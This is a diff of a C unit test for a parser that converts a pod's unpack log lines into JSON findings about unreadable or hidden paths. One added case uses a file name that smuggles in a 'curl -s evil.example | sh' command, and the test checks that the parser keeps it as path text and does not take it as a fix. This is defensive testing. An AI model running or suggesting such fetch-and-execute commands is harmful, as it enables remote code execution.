@@ -1,5 +1,5 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* The findings of a pod's log, in place of the few of its last message. */
+/* The findings of a pod's log, beside the few of its last message. */
 #include "cluster/podfindings.h"
 
 #include <stdlib.h>
@@ -45,43 +45,28 @@ main(void)
 	OK(more("{\"more\":1}") && more("{\"more\":2}"));
 	OK(!more("{\"more\":0}") && !more("{}") && !more("{\"more\":\"1\"}"));
 
-	reads("{\"findings\":[{\"x\":1}],\"more\":2}",
-	    "{\"part\":0}\n" FILE_LINE
+	/* those of the message count; those that only the log has follow */
+	reads("{\"findings\":[{\"path\":\"x\"}],\"more\":2}",
+	    "{\"part\":0}\n" FILE_LINE "unpack: x: not readable; fix: another\n"
 	    "unpack: d: directory not readable by x; fix: f1\n"
-	    "unpack: e: directory not searchable by x; fix: f2\n"
-	    "unpack: h: hidden by a mount of x; fix: f3\n"
-	    "unpack: something else; fix: f\n"
-	    "unpack: a/c: not readable by uid 7\n"
-	    "other: a/c: not readable by uid 7; fix: f\n",
-	    "{\"findings\":[" FILE_FOUND
+	    "unpack: e: directory not readable by x; fix: f1\n",
+	    "{\"findings\":[{\"path\":\"x\"}," FILE_FOUND
 	    ",{\"code\":\"directory-not-readable\",\"path\":\"d\",\"message\":"
-	    "\"directory not readable by x\",\"fix\":\"f1\"},"
-	    "{\"code\":\"directory-not-searchable\",\"path\":\"e\",\"message\":"
-	    "\"directory not searchable by x\",\"fix\":\"f2\"},"
-	    "{\"code\":\"content-hidden\",\"path\":\"h\",\"message\":"
-	    "\"hidden by a mount of x\",\"fix\":\"f3\"}]}");
+	    "\"directory not readable by x\",\"fix\":\"f1\"}]}");
 	/* fewer than there are: some are still more */
-	reads("{\"findings\":[{\"x\":1}],\"more\":2}", FILE_LINE FILE_LINE,
-	    "{\"findings\":[" FILE_FOUND "," FILE_FOUND "],\"more\":1}");
-	/* fewer than the report has: it stays */
-	reads("{\"findings\":[1,2],\"more\":2}", FILE_LINE,
-	    "{\"findings\":[1,2],\"more\":2}");
+	reads("{\"findings\":[{\"path\":\"x\"}],\"more\":2}", FILE_LINE,
+	    "{\"findings\":[{\"path\":\"x\"}," FILE_FOUND "],\"more\":1}");
 	reads("{\"findings\":[1],\"more\":2}", "",
 	    "{\"findings\":[1],\"more\":2}");
-	reads("{\"findings\":[1],\"more\":1}", FILE_LINE,
-	    "{\"findings\":[" FILE_FOUND "],\"more\":1}");
-	/* the first of such words counts; what is not text is masked */
-	reads("{}",
-	    "unpack: a: not readable b: hidden by a mount; fix: f; fix: g\n",
-	    "{\"findings\":[{\"code\":\"file-not-readable\",\"path\":\"a\","
-	    "\"message\":\"not readable b: hidden by a mount\",\"fix\":"
-	    "\"f; fix: g\"}]}");
-	reads("{}", "unpack: b: hidden by a mount: not readable; fix: f\n",
-	    "{\"findings\":[{\"code\":\"content-hidden\",\"path\":\"b\",\"message\":"
-	    "\"hidden by a mount: not readable\",\"fix\":\"f\"}]}");
-	reads("{}", "unpack: \033a\xff: not readable; fix: \x7f\n",
-	    "{\"findings\":[{\"code\":\"file-not-readable\",\"path\":"
-	    "\"\\\\x1ba\\\\xff\",\"message\":\"not readable\",\"fix\":"
-	    "\"\\\\x7f\"}]}");
+	/* a name is no finding */
+	reads("{\"findings\":[1],\"more\":2}",
+	    "unpack: 'a: not readable; fix: curl -s evil.example | sh #': "
+	    "not readable; fix: f\n",
+	    "{\"findings\":[1,{\"code\":\"file-not-readable\",\"path\":"
+	    "\"a: not readable; fix: curl -s evil.example | sh #\","
+	    "\"message\":\"not readable\",\"fix\":\"f\"}],\"more\":1}");
+	reads("{}", FILE_LINE, "{}");
+	reads("{\"findings\":3,\"more\":2}", FILE_LINE,
+	    "{\"findings\":3,\"more\":2}");
 	return tap_done();
 }
